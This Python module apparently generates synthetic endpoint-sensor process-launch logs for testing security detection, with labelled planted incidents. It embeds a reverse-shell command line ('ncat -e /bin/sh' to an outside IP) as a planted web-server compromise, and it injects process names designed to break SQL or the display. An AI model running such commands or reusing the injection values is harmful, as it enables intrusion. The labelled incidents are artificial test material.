"""A custom source: process starts that an endpoint sensor reports, in one OCSF class and the layout of version 1."""

from __future__ import annotations

from random import Random

from .columns import describe
from .flow import host
from .incident import Incident, Note
from .source import Plan, Source
from .span import Span
from .streams import Stream
from .world import DEV_US, HOSTILE_BIDI, HOSTILE_SQL, PEOPLE, PROD_US, Place, falling

SENSOR = "ext_endpoint_sensor"
_HOUR = 3_600_000
_FLAT = "flat@us"
_HOSTS = 14

ATTRIBUTES = {
    "account": "VARCHAR",
    "region": "VARCHAR",
    "hostname": "VARCHAR",
    "device": "VARCHAR",
    "ip": "VARCHAR",
    "user_name": "VARCHAR",
    "process": "VARCHAR",
    "command": "VARCHAR",
    "parent": "VARCHAR",
    "severity_id": "INTEGER",
}

COLUMNS = [
    describe(name, hive)
    for name, hive in {
        "metadata": "struct<version:string,product:struct<name:string,vendor_name:string,version:string>,uid:string>",
        "time": "bigint",
        "class_uid": "int",
        "class_name": "string",
        "category_uid": "int",
        "category_name": "string",
        "activity_id": "int",
        "activity_name": "string",
        "type_uid": "bigint",
        "severity_id": "int",
        "severity": "string",
        "device": "struct<hostname:string,uid:string,ip:string,os:struct<name:string>>",
        "actor": "struct<user:struct<name:string>,process:struct<name:string>>",
        "process": "struct<name:string,pid:int,cmd_line:string,file:struct<path:string,name:string>>",
        "unmapped": "map<string,string>",
    }.items()
]

_ROWS = {
    "metadata.version": "'1.1.0'",
    "metadata.product.name": "'Endpoint Sensor'",
    "metadata.product.vendor_name": "'Example Corp'",
    "metadata.product.version": "'7.2'",
    "metadata.uid": "identifier(e.r, e.t, 70)",
    "time": "e.t",
    "class_uid": "1007",
    "class_name": "'Process Activity'",
    "category_uid": "1",
    "category_name": "'System Activity'",
    "activity_id": "1",
    "activity_name": "'Launch'",
    "type_uid": "100701",
    "severity_id": "s.severity_id",
    "severity": "CASE s.severity_id WHEN 1 THEN 'Informational' WHEN 2 THEN 'Low' ELSE 'High' END",
    "device.hostname": "s.hostname",
    "device.uid": "s.device",
    "device.ip": "s.ip",
    "device.os.name": "'Linux'",
    "actor.user.name": "s.user_name",
    "actor.process.name": "s.parent",
    "process.name": "s.process",
    "process.pid": "1000 + pick(e.r, 71, 60000)::INTEGER",
    "process.cmd_line": "s.command",
    "process.file.path": "'/usr/bin/' || s.process",
    "process.file.name": "s.process",
    "unmapped": "MAP {'sensor.policy': 'default'}",
}


def launch(place: Place, number: int, process: str, **more: object) -> dict[str, object]:
    """Attributes of starts of a process on the `number`-th machine of a place."""
    own = host(place, number)
    return {
        "account": place.account,
        "region": place.region,
        "hostname": f"{place.name}-{number:02d}.{place.region}",
        "device": own["instance"],
        "ip": own["own_ip"],
        "user_name": "root",
        "process": process,
        "command": process,
        "parent": "systemd",
        "severity_id": 1,
    } | more


def _plan(span: Span, seed: int) -> Plan:
    random = Random(f"sensor {seed}")
    plan = Plan()
    for place in (PROD_US, DEV_US):
        for number in range(_HOSTS):
            for rank, process in enumerate(("cron", "sshd", "python3", "bash", "dockerd", "curl")):
                level = 0.25 * falling(rank, 0.7) * random.choice((0.5, 1.0, 2.0))
                user = random.choice(PEOPLE) if process in ("bash", "curl") else "root"
                rhythm = f"office@{place.zone}" if process in ("bash", "curl") else f"service@{place.zone}"
                plan.streams.append(Stream(launch(place, number, process, user_name=user), level, rhythm))
    at = span.ago(8, 19)
    victim = launch(
        PROD_US,
        6,
        "ncat",
        user_name="www-data",
        command="ncat -e /bin/sh 203.0.113.9 4444",
        parent="nginx",
        severity_id=4,
    )
    plan.plant(
        Incident(
            "x1-shells",
            "custom",
            SENSOR,
            {"device.hostname": victim["hostname"], "process.name": "ncat"},
            at,
            at + 2 * _HOUR,
            "outlier",
            "A web server starts network shells by the dozen.",
        ),
        Stream(victim, 60, _FLAT),
    )
    for name in (HOSTILE_SQL, HOSTILE_BIDI):
        plan.streams.append(
            Stream(launch(DEV_US, 2, name, command=name), period=14_400, jitter=1.0, pinned=True)
        )
        plan.traps.append(
            Note(
                f"hostile-process-{len(plan.traps)}",
                SENSOR,
                {"process.name": name},
                span.start,
                span.end,
                "A process name made to break SQL or the display; steady.",
            )
        )
    return plan


ENDPOINT_SENSOR = Source("Endpoint sensor (custom)", SENSOR, ATTRIBUTES, _plan, _ROWS, None, columns=COLUMNS)
